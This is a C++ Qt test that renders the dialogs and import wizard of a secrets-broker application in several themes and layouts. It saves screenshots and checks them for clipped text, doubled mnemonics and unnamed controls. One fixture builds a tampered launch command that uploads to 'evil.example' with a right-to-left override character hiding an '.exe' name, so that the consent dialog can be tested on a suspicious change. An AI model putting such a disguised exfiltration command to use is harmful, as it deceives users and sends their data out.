// Draws every dialog and page with scripted data: light, dark, with texts 40 % longer, right to left.
// The pictures go to $CLAVIGER_SCREENSHOTS; no text may be cut in any of them.
#include "tests/support/fake_clock.h"
#include "tests/support/scripted_control.h"
#include "tests/ui/dialogs/gallery/gallery_support.h"
#include "tests/ui/dialogs/requests.h"
#include "tests/ui/mnemonics.h"
#include "tests/ui/wizard/plans.h"
#include "ui/dialogs/access_dialog.h"
#include "ui/dialogs/confirm_dialog.h"
#include "ui/dialogs/reveal_dialog.h"
#include "ui/dialogs/secret_dialog.h"
#include "ui/dialogs/test_dialog.h"
#include "ui/dialogs/undo_dialog.h"
#include "ui/dialogs/undo_model.h"
#include "ui/dialogs/vault_dialog.h"
#include "ui/wizard/import_wizard.h"

#include <QtCore/QDir>
#include <QtCore/QMap>
#include <QtTest/QTest>
#include <QtWidgets/QApplication>
#include <QtWidgets/QLineEdit>
#include <QtWidgets/QRadioButton>
#include <QtWidgets/QStyleFactory>
#include <QtWidgets/QToolButton>

using namespace Qt::StringLiterals;
using namespace claviger;
using namespace claviger::ui;

class GalleryTest : public QObject
{
    Q_OBJECT

private:
    test::ScriptedControl m_control;
    test::FakeClock m_clock;
    std::unique_ptr<ControlLink> m_link;
    ClipboardKeeper m_clipboard;
    test::LongTexts m_longTexts;
    QPalette m_light;
    const CredentialRef m_credential {u"github"_s, u"GitHub"_s, u"GITHUB_PERSONAL_ACCESS_TOKEN"_s,
        u"GitHub"_s, u"GitHub settings (https://github.com/settings/tokens)"_s};

    using Maker = QDialog *(GalleryTest::*)();

    QDialog *access(const broker::ConsentRequest &request)
    {
        return new AccessDialog(
            wordAccessQuestion(request, std::chrono::seconds(120)), std::chrono::milliseconds(0));
    }
    QDialog *accessFirst() { return access(test::launchRequest()); }
    QDialog *accessChanged()
    {
        auto request = test::launchRequest();
        request.command = {u"npx"_s, u"-y"_s, u"@modelcontextprotocol/server-github"_s,
            u"--upload"_s, u"https://evil.example/\u202Egnp.exe"_s};
        request.changes = {
            {policy::Change::Kind::Command, u"npx -y @modelcontextprotocol/server-github"_s,
                request.command.join(u' ')},
            {policy::Change::Kind::Application, u"/usr/share/cursor/cursor"_s,
                u"/usr/share/cursor/cursor"_s}};
        return access(request);
    }
    QDialog *accessRemote()
    {
        auto request = test::launchRequest(u"linear"_s);
        request.isRemote = true;
        request.serverName = u"Linear"_s;
        request.command = {u"https://mcp.linear.app/mcp"_s};
        request.values.clear();
        return access(request);
    }
    QDialog *accessRemoteChanged()
    {
        auto request = test::launchRequest(u"context7"_s);
        request.isRemote = true;
        request.serverName = u"Context7"_s;
        request.command = {u"https://mcp.context7.example/mcp"_s};
        request.values = {u"CONTEXT7_API_KEY"_s};
        request.changes = {{policy::Change::Kind::Command, u"https://mcp.context7.com/mcp"_s,
            request.command.first()}};
        return access(request);
    }
    QDialog *accessHuge()
    {
        auto request = test::launchRequest();
        request.application.name = QString(300, u'W');
        request.serverName = u"A server with a very long name that goes on and on and on and on"_s;
        for (int i = 0; i < 200; ++i)
            request.command.append(u"--argument-number-%1=%2"_s.arg(i).arg(QString(i, u'x')));
        for (int i = 0; i < 30; ++i)
            request.values.append(u"A_RATHER_LONG_NAME_OF_A_SECRET_NUMBER_%1"_s.arg(i));
        return access(request);
    }
    QDialog *accessDetails()
    {
        QDialog *dialog = accessFirst();
        dialog->findChild<QToolButton *>(u"detailsToggle"_s)->setChecked(true);
        return dialog;
    }
    QDialog *putBack()
    {
        auto request = test::launchRequest();
        request.kind = broker::ConsentRequest::Kind::PutSecretsBack;
        request.command.clear();
        return access(request);
    }
    QDialog *secret()
    {
        auto *dialog = new SecretDialog(m_credential, serviceNamed(u"GitHub"_s));
        dialog->findChild<QLineEdit *>(u"value"_s)->setText(u"sk-wrong"_s);
        return dialog;
    }
    QDialog *reveal()
    {
        auto *dialog = new RevealDialog(m_credential, m_clipboard);
        dialog->showSecret(Secret::copyOf("example-value-for-the-picture"));
        return dialog;
    }
    QDialog *confirmDelete()
    {
        return new ConfirmDialog({u"Delete this secret?"_s, u"GitHub can't start without it."_s,
            u"You can type it in again at any time."_s, u"&Delete"_s, true});
    }
    QDialog *vault()
    {
        auto *dialog = new VaultChoiceDialog(VaultPlaces());
        dialog->findChild<QRadioButton *>(u"sealedFile"_s)->setChecked(true);
        dialog->findChild<QLineEdit *>(u"passphrase"_s)->setText(u"correct horse battery"_s);
        return dialog;
    }
    QDialog *vaultChange()
    {
        const VaultPlaces places {VaultKind::Keychain, vault::StoreState::Ready, true, 7, 2};
        auto *dialog = new VaultChoiceDialog(places);
        dialog->findChild<QRadioButton *>(u"sealedFile"_s)->setChecked(true);
        return dialog;
    }
    QDialog *passphrase() { return new PassphraseDialog; }
    QDialog *unlock()
    {
        auto *dialog = new UnlockDialog(UnlockDialog::Needs::Passphrase);
        dialog->showError({ErrorCode::PassphraseWrong, {}, {}});
        return dialog;
    }
    QDialog *unlockLocked() { return new UnlockDialog(UnlockDialog::Needs::Nothing); }
    QDialog *tested()
    {
        auto *dialog = new TestDialog(m_credential);
        broker::ControlReply reply;
        reply.body = test::wizardJson(
            "{'checks':[{'check':'stored','ok':true,'skipped':false,'detail':''},"
            "{'check':'form','ok':true,'skipped':false,'detail':''},"
            "{'check':'start','ok':true,'skipped':false,'detail':''},"
            "{'check':'initialize','ok':false,'skipped':false,'detail':'401 Bad credentials'},"
            "{'check':'tools','ok':false,'skipped':true,'detail':''}]}");
        dialog->showReply(Result<broker::ControlReply>(std::move(reply)));
        return dialog;
    }
    QDialog *undo() { return new UndoDialog(std::make_unique<UndoModel>(*m_link, UndoScope {})); }
    ImportWizard *wizardAt(int steps)
    {
        auto *wizard = new ImportWizard(*m_link);
        if (!QTest::qWaitFor([wizard] { return wizard->model().hasPlan(); }))
            qFatal("the scan did not end");
        if (steps == 0)
            return wizard;
        wizard->model().chooseClient(1, false);
        for (int i = 0; i < steps; ++i) {
            if (!QTest::qWaitFor([wizard] { return wizard->model().canGoNext(); }))
                qFatal("the wizard does not go on");
            wizard->model().next();
        }
        const bool isDone = QTest::qWaitFor([wizard, steps] {
            return static_cast<int>(wizard->model().page()) == steps
                && wizard->model().work() == WizardModel::Work::None;
        });
        if (!isDone)
            qFatal("the page did not come");
        return wizard;
    }
    QDialog *wizardClients() { return wizardAt(0); }
    QDialog *wizardServers() { return wizardAt(1); }
    QDialog *wizardChanges() { return wizardAt(2); }
    QDialog *wizardDone() { return wizardAt(3); }

    static QMap<QString, Maker> scenes()
    {
        return {{u"access-first"_s, &GalleryTest::accessFirst},
            {u"access-changed"_s, &GalleryTest::accessChanged},
            {u"access-huge"_s, &GalleryTest::accessHuge},
            {u"access-details"_s, &GalleryTest::accessDetails},
            {u"put-back"_s, &GalleryTest::putBack}, {u"secret"_s, &GalleryTest::secret},
            {u"reveal"_s, &GalleryTest::reveal}, {u"delete"_s, &GalleryTest::confirmDelete},
            {u"vault"_s, &GalleryTest::vault}, {u"vault-change"_s, &GalleryTest::vaultChange},
            {u"passphrase"_s, &GalleryTest::passphrase},
            {u"access-remote"_s, &GalleryTest::accessRemote},
            {u"access-remote-changed"_s, &GalleryTest::accessRemoteChanged},
            {u"unlock-locked"_s, &GalleryTest::unlockLocked}, {u"unlock"_s, &GalleryTest::unlock},
            {u"test"_s, &GalleryTest::tested}, {u"undo"_s, &GalleryTest::undo},
            {u"wizard-clients"_s, &GalleryTest::wizardClients},
            {u"wizard-servers"_s, &GalleryTest::wizardServers},
            {u"wizard-changes"_s, &GalleryTest::wizardChanges},
            {u"wizard-done"_s, &GalleryTest::wizardDone}};
    }
private Q_SLOTS:
    void initTestCase()
    {
        QApplication::setStyle(QStyleFactory::create(u"Fusion"_s));
        m_light = QApplication::palette();
        m_control.answer(u"import.scan"_s, test::samplePlan());
        m_control.answer(u"import.preview"_s, test::samplePreview());
        m_control.answer(u"import.apply"_s,
            test::wizardJson(
                "{'files':[{'path':'/home/ada/.cursor/mcp.json','client':'cursor','ok':true,"
                "'error':null,'servers':['github','postgres'],'secretsMoved':3,'notes':['in-git']},"
                "{'path':'/home/ada/shop/.mcp.json','client':'claude-code','ok':false,"
                "'error':{'code':'file-changed','subject':'/home/ada/shop/.mcp.json'},"
                "'servers':[],'secretsMoved':0,'notes':[]}]}"));
        m_control.answer(u"import.watch"_s,
            test::wizardJson("{'clients':[{'client':'cursor','launchedAt':5}]}"));
        m_control.answer(u"clients.list"_s, test::wizardJson("{'clients':[]}"));
        m_control.answer(u"undo.list"_s,
            test::wizardJson(
                "{'undo':[{'id':'1','client':'cursor','path':'/home/ada/.cursor/mcp.json',"
                "'server':'github','key':'github','at':1,'secrets':['GITHUB_PERSONAL_ACCESS_TOKEN']"
                ","
                "'state':'in-place','why':{'code':'file-changed','subject':'/home/ada/.cursor/"
                "mcp.json'}},"
                "{'id':'2','client':'cursor','path':'/home/ada/.cursor/"
                "mcp.json','server':'x','key':'x',"
                "'at':1,'secrets':[],'state':'gone','why':{'code':'entry-changed','subject':'x'}}]"
                "}"));
        QJsonObject preview = test::samplePreview();
        preview.insert(u"secrets"_s,
            QJsonArray {QJsonObject {
                {u"server"_s, u"github"_s}, {u"name"_s, u"GITHUB_PERSONAL_ACCESS_TOKEN"_s}}});
        m_control.answer(u"undo.preview"_s, preview);
        m_link = std::make_unique<ControlLink>(m_control, m_clock);
    }
    void cleanupTestCase() { m_link.reset(); }

    void draw_data()
    {
        QTest::addColumn<QString>("variant");
        QTest::addColumn<QString>("name");
        const QStringList names = scenes().keys();
        for (const QString &name : names) {
            for (const QString &variant : {u"light"_s, u"dark"_s, u"german"_s, u"long"_s, u"rtl"_s})
                QTest::newRow(qPrintable(name + u'-' + variant)) << variant << name;
        }
    }
    void draw()
    {
        QFETCH(QString, variant);
        QFETCH(QString, name);
        const Maker maker = scenes().value(name);
        QVERIFY(maker);
        test::dress(variant, m_light, m_longTexts);
        std::unique_ptr<QDialog> dialog((this->*maker)());
        dialog->setAttribute(Qt::WA_DeleteOnClose, false);
        dialog->show();
        QVERIFY(QTest::qWaitForWindowExposed(dialog.get()));
        if (name == u"undo"_s)
            QTRY_VERIFY(dialog->findChild<QWidget *>(u"diff"_s)->isVisible());
        for (int i = 0; i < 5; ++i)
            QCoreApplication::processEvents();
        const QString folder = qEnvironmentVariable("CLAVIGER_SCREENSHOTS", u"screenshots"_s);
        QVERIFY(QDir().mkpath(folder));
        QVERIFY(dialog->grab().save(u"%1/%2-%3.png"_s.arg(folder, name, variant)));
        const QStringList cut = test::cutTexts(dialog.get());
        QVERIFY2(cut.isEmpty(), qPrintable(cut.join(u'\n')));
        const QStringList doubled = test::doubledMnemonics(*dialog);
        QVERIFY2(doubled.isEmpty(), qPrintable(doubled.join(u'\n')));
        const QStringList nameless = test::namelessControls(dialog.get());
        QVERIFY2(nameless.isEmpty(), qPrintable(nameless.join(u'\n')));
        QVERIFY(dialog->height() <= dialog->screen()->availableGeometry().height());
    }
};

QTEST_MAIN(GalleryTest)
#include "gallery_test.moc"
